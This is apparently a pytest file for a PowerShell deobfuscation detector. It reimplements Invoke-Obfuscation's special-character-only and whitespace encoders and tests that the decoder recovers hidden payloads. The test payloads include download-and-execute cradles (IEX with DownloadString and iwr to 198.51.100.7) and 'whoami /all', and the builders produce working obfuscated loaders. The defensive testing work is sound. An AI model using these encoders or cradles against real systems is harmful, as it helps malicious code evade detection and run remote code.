"""PowerShell written without letters: Invoke-Obfuscation's special-character-only and
whitespace encodings.

The builders below write a payload of our own the way the tool's encoders do (the same
steps, random choices drawn from a seeded generator): digits counted up from ``+$()`` in
variables named with punctuation, ``[Char]`` and ``iex`` cut out of ``"$(@{})"``, ``"$?"``
and ``"".("insert")``, then the payload as ``[Char]`` codes in an interpolated string; or
each code's digits as runs of spaces parted by tabs (or the other way round). Traps: the
same syntax used for what it is (``${env:Path}``, blank literals in a ``-split``).
"""

from __future__ import annotations

import random

import pytest

from .builders import layers

PAYLOAD = "Write-Host 'Hello World!'; IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"

_DEFAULT = (";", "=", "+", "@", ".", "[", "]", "(", ")", "&", "|", '"')
_NEW = (*";=+@.[]()-/'*%$#!", "``", "~", " ")


def _spaced(script: str, rng: random.Random) -> str:
    return "".join(piece + " " * rng.choice((0, 2)) for piece in script.split(" "))


def special_chars(payload: str, seed: int, *, command_line: bool = False) -> str:
    """``payload`` encoded as Out-EncodedSpecialCharOnlyCommand does."""
    rng = random.Random(seed)
    if rng.random() < 0.5:
        setup = "${;} = + $( ) ; ${=} = ${;} ; ${+} = ++ ${;} ; " + "".join(
            f"${{{name}}} = ++ ${{;}} ; " for name in "@.[]()&|"
        )
    else:
        setup = "${;} = + $( ) ; ${=} = ${;} ; ${+} = ++ ${;} ; " + "".join(
            f"${{{name}}} = ( ${{;}} = ${{;}} + ${{+}} ) ; " for name in "@.[]()&|"
        )
    char = (
        '${"} = \\"[\\" + \\"$( @{ } ) \\"[ ${)} ] + \\"$(@{ })\\"[ \\"${+}${|}\\" ] + '
        '\\"$( @{ } ) \\"[ \\"${@}${=}\\" ] + \\"$? \\"[ ${+} ] + \\"]\\" ; '
    )
    overloads = (
        '${;} = \\"\\".(\\"$( @{ } ) \\"[ \\"${+}${[}\\" ] + \\"$( @{ } ) \\"[ \\"${+}${(}\\" ] '
        '+ \\"$( @{ } ) \\"[ ${=} ] + \\"$( @{ } ) \\"[ ${[} ] + \\"$? \\"[ ${+} ] + '
        '\\"$( @{ } ) \\"[ ${.} ] ) ; '
    )
    iex = (
        '${;} = \\"$( @{ } ) \\"[ \\"${+}${[}\\" ] + \\"$( @{ } ) \\"[ ${[} ] + '
        '\\"${;}\\"[ \\"${@}${)}\\" ] ; '
    )
    if rng.random() < 0.5:
        char = char.replace("}${", '}\\" + \\"${')
    if rng.random() < 0.5:
        overloads = overloads.replace("}${", '}\\" + \\"${')
    if rng.random() < 0.5:
        iex = iex.replace("}${", '}\\" + \\"${')
    setup = setup + char + overloads + iex
    if rng.random() < 0.5:
        marks = "".join(rng.sample([";", "=", "+", "@", ".", "[", "]", "(", ")", "-", "_"], 2))
        setup = f"( '{marks}' | % {{ " + setup.replace(" ; ", " } { ").strip(" {") + " ) ; "
    digit_names = ("${=}", "${+}", "${@}", "${.}", "${[}", "${]}", "${(}", "${)}", "${&}", "${|}")
    encoded = " + ".join(
        '${"}' + "".join(digit_names[int(d)] for d in str(ord(c))) for c in payload
    )
    run = rng.choice(".&")
    script = setup + rng.choice(
        (
            f'\\" {encoded} ^| ${{;}} \\" | {run} ${{;}} ',
            f'\\" ${{;}} ( {encoded} ) \\" | {run} ${{;}} ',
            f'{run} ${{;}} ( \\" {encoded} ^| ${{;}} \\" ) ',
            f'{run} ${{;}} ( \\" ${{;}} ( {encoded} ) \\" ) ',
        )
    )
    script = _spaced(script, rng)
    pool: tuple[str, ...] = _NEW
    most = 3
    style = rng.randrange(6)
    if style == 0:
        one = rng.choice(_NEW)
        pool, most = tuple(one * n for n in range(1, 13)), 1
    elif style == 1:
        pool, most = tuple(" " * n for n in range(1, 13)), 1
    names: list[str] = []
    while len(names) < len(_DEFAULT):
        name = "".join(rng.sample(pool, rng.randint(1, most)))
        if name not in names:
            names.append(name)
    for i, default in enumerate(_DEFAULT):
        script = script.replace("${" + default + "}", "${" + str(i) + "}")
    for i in reversed(range(len(_DEFAULT))):
        script = script.replace("${" + str(i) + "}", "${" + names[i] + "}")
    if not command_line:
        return script.replace('\\"', '"').replace("^|", "|")
    return f'powershell  -NoProf  -NonI "{script}"'


def whitespace(payload: str, seed: int) -> str:
    """``payload`` encoded as Out-EncodedWhitespaceCommand does (with its decoding stub)."""
    rng = random.Random(seed)
    digit, delimiter = rng.choice(((" ", "\t"), ("\t", " ")))
    blank = (delimiter * 2).join(
        delimiter.join(digit * (int(d) + 1) for d in str(ord(c))) for c in payload
    )
    split = rng.choice(("-split", "-cSpLit", "-iSPLIT"))
    return (
        f"'{blank}' | % {{$xZqTw = $_ {split} '{delimiter * 2}' | % {{ '{delimiter}';"
        f"$_.SpLiT('{delimiter}') | % {{ $_.Length - 1 }} }}; [StrInG]::JoIn('', "
        f"((-jOiN ($xZqTw[0..($xZqTw.Length-1)])).Trim('{delimiter} ').Split('{delimiter}')"
        f" | % {{ ([Char][Int]$_) }})) | & ( $env:ComSpec[4,15,25]-Join'') }}"
    )


@pytest.mark.parametrize("seed", range(24))
def test_special_characters_only_gives_the_char_codes_then_the_payload(seed: int) -> None:
    script = special_chars(PAYLOAD, seed)
    found = layers(script)
    assert found[0][0] == "ps_specialchar"
    assert "[char]87" in (found[0][1] or "").lower().replace(" ", "")
    assert any(PAYLOAD in (text or "") for _, text in found[1:])


@pytest.mark.parametrize("seed", range(12))
def test_special_characters_only_on_a_command_line(seed: int) -> None:
    line = special_chars(PAYLOAD, 100 + seed, command_line=True)
    found = layers(line)
    assert found[0][0] == "ps_specialchar"
    assert any(PAYLOAD in (text or "") for _, text in found[1:])


def test_special_characters_with_variable_names_of_spaces_and_backticks() -> None:
    seeds = [s for s in range(400) if "${ }" in special_chars(PAYLOAD, s)]
    ticks = [s for s in range(400) if "``" in special_chars(PAYLOAD, s)]
    assert seeds
    assert ticks
    for seed in seeds[:3] + ticks[:3]:
        assert any(PAYLOAD in (text or "") for _, text in layers(special_chars(PAYLOAD, seed)))


def test_special_characters_spelling_a_multiline_script() -> None:
    payload = "$u = 'http://198.51.100.7/b'\nIEX (iwr $u -UseBasicParsing).Content"
    found = layers(special_chars(payload, 7))
    assert any(payload in (text or "") for _, text in found)


@pytest.mark.parametrize("seed", range(12))
def test_whitespace_encoding(seed: int) -> None:
    found = layers(whitespace(PAYLOAD, seed))
    assert ("ps_whitespace", PAYLOAD) in found


def test_whitespace_encoding_inside_a_command_line() -> None:
    script = whitespace("whoami /all", 3)
    line = f'powershell -nop -c "{script}"'
    assert ("ps_whitespace", "whoami /all") in layers(line)


@pytest.mark.parametrize(
    "text",
    [
        # braced variables and subexpressions as scripts use them
        '${env:ProgramFiles(x86)} = +$(Get-Date).Year; "${env:ProgramFiles(x86)}\\x"',
        '${count} = + $( ) ; ${count}++ ; Write-Host "done ${count}"',
        '${a} = +$(); ${b} = ++${a}; "value: ${b}"',
        # blank literals that are only layout
        "$cols = $line -split '\t\t'; $pad = '    \t    \t    '",
        "'  \t  \t  \t  ' -split ' ' | % { $_.Length }",
        '$x.Split("\t \t \t \t  \t") ',
    ],
)
def test_traps_stay_clean(text: str) -> None:
    assert [e for e, _ in layers(text) if e in ("ps_specialchar", "ps_whitespace")] == []


def test_a_broken_special_character_script_gives_no_layer() -> None:
    script = special_chars(PAYLOAD, 5)
    cut = script[: len(script) // 3]  # the setup without the payload
    assert [e for e, _ in layers(cut) if e == "ps_specialchar"] == []


def test_a_long_special_character_payload_is_read_whole() -> None:
    payload = "Write-Output 'x'\n" * 400  # 6,800 characters, 27,000 codes' digits
    found = layers(special_chars(payload, 11))
    assert any(payload.strip() in (text or "") for _, text in found)


@pytest.mark.parametrize(
    "hostile",
    [
        "${;}=+$();" + "${;}+" * 100_000 + "${unknown}",  # a long statement failing late
        "${;}=+$();" + "(" * 50_000 + "${;}",  # nesting deeper than any script
        "${;}=+$();" + "+" * 100_000 + "${;}",
        "${;}=+$();" + '"${;}' * 50_000,  # strings that never close
        "${;}=+$();" + '${;}="${;}${;}${;}${;}";' * 20,  # a string doubling past the cap
    ],
)
def test_hostile_special_character_text_gives_no_layer_and_returns(hostile: str) -> None:
    assert [e for e, _ in layers(hostile) if e == "ps_specialchar"] == []
